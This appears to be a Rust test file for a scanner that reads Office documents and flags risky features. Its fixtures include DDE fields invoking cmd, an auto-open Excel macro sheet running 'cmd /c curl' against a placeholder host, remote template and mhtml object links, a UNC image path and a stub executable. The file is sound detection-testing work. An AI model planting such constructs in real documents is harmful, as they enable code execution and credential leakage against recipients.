use super::*;
use crate::{
    contents::document::testing::{
        details, first, found, kinds, members, package, properties, read_by, text,
    },
    mail::Limit,
};

const RELATION: &str = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";

fn relations(of: &[(&str, &str, bool)]) -> String {
    let each = of.iter().map(|(kind, target, is_external)| {
        let mode = if *is_external { " TargetMode='External'" } else { "" };
        format!("<Relationship Id='r' Type='{RELATION}/{kind}' Target='{target}'{mode}/>")
    });
    format!("<Relationships>{}</Relationships>", each.collect::<String>())
}

fn word(body: &str) -> Vec<u8> {
    package(&[
        ("[Content_Types].xml", b"<Types/>"),
        (
            "word/document.xml",
            format!("<w:document><w:body>{body}</w:body></w:document>").as_bytes(),
        ),
    ])
}

#[test]
fn documents_are_known_and_read() {
    let inside = found(&word("<w:p><w:r><w:t>Hello</w:t></w:r></w:p>"));
    assert_eq!(first(&inside).kind, "docx");
    assert_eq!(text(&inside), "Hello\n");
}

#[test]
fn texts_are_as_they_are_shown() {
    let cases = [
        (
            "<w:p><w:r><w:t>Bu</w:t></w:r><w:r><w:t>y &amp; sell</w:t></w:r></w:p><w:p><w:t>b</w:t></w:p>",
            "Buy & sell\nb\n",
        ),
        (
            "<w:tr><w:tc><w:p><w:t>a</w:t></w:p></w:tc><w:tc><w:p><w:t>b</w:t></w:p></w:tc></w:tr>",
            "a\nb\n",
        ),
        ("<mc:Choice><w:t>x</w:t></mc:Choice><mc:Fallback><w:t>x</w:t></mc:Fallback>", "x\n"),
        ("<v:textpath string='Word art'/>", "Word art\n"),
        ("<w:t>a</w:t><w:br/><w:t>b</w:t><w:tab/><w:t>c</w:t>", "a\nb c\n"),
        ("<w:t>not closed", "not closed\n"),
    ];
    for (body, expected) in cases {
        assert_eq!(text(&read_by(read, &word(body))), expected, "{body}");
    }
}

#[test]
fn sheets_and_slides_are_read() {
    let sheet = package(&[
        ("xl/sharedStrings.xml", b"<sst><si><t>Buy</t></si><si><r><t>no</t></r><r><t>w</t></r></si></sst>"),
        ("xl/worksheets/sheet1.xml", b"<sheetData><row><c t='inlineStr'><is><t>inline</t></is></c>\
            <c t='str'><f>HYPERLINK(\"http://f.example/x\")</f><v>shown</v></c><c><v>42</v></c></row></sheetData>"),
    ]);
    let inside = read_by(read, &sheet);
    assert_eq!(text(&inside), "Buy\nnow\ninline shown\n");
    assert_eq!(first(&inside).uris, ["http://f.example/x"]);
    let slides = package(&[
        ("ppt/slides/slide10.xml", b"<p:sld><a:p><a:r><a:t>ten</a:t></a:r></a:p></p:sld>"),
        ("ppt/slides/slide2.xml", b"<p:sld><a:p><a:r><a:t>two</a:t></a:r></a:p></p:sld>"),
        (
            "ppt/slideMasters/slideMaster1.xml",
            b"<p:sp><p:ph/><a:t>Click to edit</a:t></p:sp><p:sp><a:t>Own</a:t></p:sp>",
        ),
        (
            "docProps/core.xml",
            b"<c><dc:title>Title</dc:title><dc:creator>Who</dc:creator><x>no</x></c>",
        ),
    ]);
    let inside = read_by(read, &slides);
    assert_eq!(text(&inside), "two\nten\nOwn\n");
    assert_eq!(properties(&inside), "Title\nWho");
}

#[test]
fn relations_point_outside() {
    let cases: &[(&str, &str, &[TraitKind], &[&str])] = &[
        ("hyperlink", "http://listed.example/a?b=1&amp;c", &[], &["http://listed.example/a?b=1&c"]),
        (
            "attachedTemplate",
            "https://evil.example/t.dotm",
            &[TraitKind::External],
            &["https://evil.example/t.dotm"],
        ),
        ("attachedTemplate", "file:///C:\\Templates\\x.dotm", &[], &[]),
        (
            "oleObject",
            "mhtml:http://e.example/a.html!x-usc:http://e.example/a.html",
            &[TraitKind::External],
            &["mhtml:http://e.example/a.html!x-usc:http://e.example/a.html"],
        ),
        ("image", "http://pictures.example/a.png", &[], &["http://pictures.example/a.png"]),
        ("image", "\\\\10.0.0.1\\a.png", &[TraitKind::External], &["\\\\10.0.0.1\\a.png"]),
        ("frame", "http://e.example/", &[TraitKind::External], &["http://e.example/"]),
    ];
    for (kind, target, traits, uris) in cases {
        let part = relations(&[(kind, target, true)]);
        let inside = read_by(read, &package(&[("word/_rels/settings.xml.rels", part.as_bytes())]));
        assert_eq!(kinds(&inside), *traits, "{kind} {target}");
        assert_eq!(first(&inside).uris, *uris, "{kind} {target}");
    }
}

#[test]
fn fields_are_understood_over_runs() {
    let mark = |kind: &str| format!("<w:r><w:fldChar w:fldCharType='{kind}'/></w:r>");
    let run = |text: &str| format!("<w:r><w:instrText>{text}</w:instrText></w:r>");
    let (begin, separate, end) = (mark("begin"), mark("separate"), mark("end"));
    let split =
        format!("{begin}{}{}{separate}<w:t>!</w:t>{end}", run("DDE"), run("AUTO c:\\cmd.exe"));
    let nested = format!("{begin}{}{begin}{}{end}{}{end}", run("DD"), run("QUOTE x"), run("E cmd"));
    let linked = format!("{begin}{}{end}", run("HYPERLINK &quot;http://a.example&quot;"));
    let simple = "<w:fldSimple w:instr='DDE cmd'/>".to_owned();
    for (body, kind, uris) in [
        (split, Some(TraitKind::Dde), &[][..]),
        (linked, None, &["http://a.example"]),
        (simple, Some(TraitKind::Dde), &[]),
        (format!("{begin}{}", run("DDE never ended")), Some(TraitKind::Dde), &[]),
    ] {
        let inside = read_by(read, &word(&body));
        assert_eq!(kinds(&inside).first().copied(), kind, "{body}");
        assert_eq!(first(&inside).uris, uris, "{body}");
    }
    let _ = read_by(read, &word(&nested));
}

#[test]
fn macro_sheets_and_links_to_programs_are_told() {
    let part = relations(&[]).replace("</", "<Relationship Type='http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet' Target='sheets/a.xml'/></");
    let inside = read_by(read, &package(&[
        ("xl/_rels/workbook.xml.rels", part.as_bytes()),
        ("xl/workbook.xml", b"<workbook><definedName name='_xlnm.Auto_Open'>m!$A$1</definedName></workbook>"),
        ("xl/sheets/a.xml", b"<xm:macrosheet><c><f>EXEC(\"cmd /c curl http://e.example\")</f></c></xm:macrosheet>"),
        ("xl/externalLinks/externalLink1.xml", b"<ddeLink ddeService='cmd' ddeTopic='/c calc'/>"),
    ]));
    assert_eq!(details(&inside, TraitKind::ExcelMacro), ["sheets/a.xml", "macro sheet"]);
    assert_eq!(details(&inside, TraitKind::AutoRun), ["_xlnm.Auto_Open"]);
    assert_eq!(
        details(&inside, TraitKind::SuspiciousCall),
        ["EXEC(\"cmd /c curl http://e.example\")"]
    );
    assert_eq!(details(&inside, TraitKind::Dde), ["cmd|/c calc"]);
    assert_eq!(first(&inside).uris, ["http://e.example"]);
}

#[test]
fn what_is_in_it_is_read() {
    let part = relations(&[("image", "media/image1.png", false)]);
    let inside = read_by(
        read,
        &package(&[
            ("word/document.xml", b"<w:document/>"),
            ("word/_rels/document.xml.rels", part.as_bytes()),
            ("word/media/image1.png", b"\x89PNG\r\n\x1a\n"),
            ("word/embeddings/oleObject1.bin", b"object"),
            ("evil.exe", b"MZ\x90\0"),
            ("docProps/thumbnail.jpeg", b"\xff\xd8\xff"),
        ]),
    );
    assert_eq!(
        members(&inside),
        ["evil.exe", "word/media/image1.png", "word/embeddings/oleObject1.bin"]
    );
    assert_eq!(kinds(&inside), [TraitKind::Object, TraitKind::OnlyPictures]);
}

#[test]
fn damage_and_bombs_end() {
    assert_eq!(kinds(&read_by(read, b"PK\x03\x04 no")), [TraitKind::Broken]);
    let deep = "<w:p>".repeat(100_000);
    assert_eq!(text(&read_by(read, &word(&format!("{deep}<w:t>end</w:t>")))), "end\n");
    let zeros = vec![b' '; 30 << 20];
    let inside = read_by(
        read,
        &package(&[("word/document.xml", &zeros), ("word/a.xml", b"<w:t>still</w:t>")]),
    );
    assert_eq!(inside.limits, [Limit::Ratio]);
    assert_eq!(text(&inside), "still\n");
}

proptest::proptest! {
    #[test]
    fn damaged_packages_have_some_answer(at in 0..400_usize, byte in 0..=255_u8, cut in 0..200_usize) {
        let mut file = word("<w:p><w:fldChar w:fldCharType='begin'/><w:instrText>DDE x</w:instrText><w:t>&lt;</w:t></w:p>");
        let at = at % file.len();
        file[at] = byte;
        file.truncate(file.len() - cut.min(file.len()));
        read_by(read, &file);
    }
}
